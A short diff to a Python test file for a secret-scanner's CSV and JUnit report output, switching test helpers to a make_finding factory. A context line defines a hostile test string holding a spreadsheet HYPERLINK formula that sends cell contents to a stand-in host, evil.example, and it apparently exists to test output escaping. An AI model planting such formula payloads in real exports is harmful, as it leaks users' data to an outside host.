@@ -11,6 +11,7 @@ from xml.etree import ElementTree as ET
 from scanner.model import Finding, ScanResult, ScanStats
 from scanner.report import RenderOptions, csv_report, junit
 from tests.testing.cli import invoke
+from tests.testing.findings import make_finding
 from tests.testing.keys import v2_key
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<b>&\x01.py'
@@ -28,7 +29,7 @@ def _finding(secret: str, **kw: Any) -> Finding:
         line_text=f'K = "{secret}"',
     )
     base.update(kw)
-    return Finding(**base)
+    return make_finding(**base)
 
 
 def _result(findings: list[Finding], errors: tuple[str, ...] = ()) -> ScanResult:
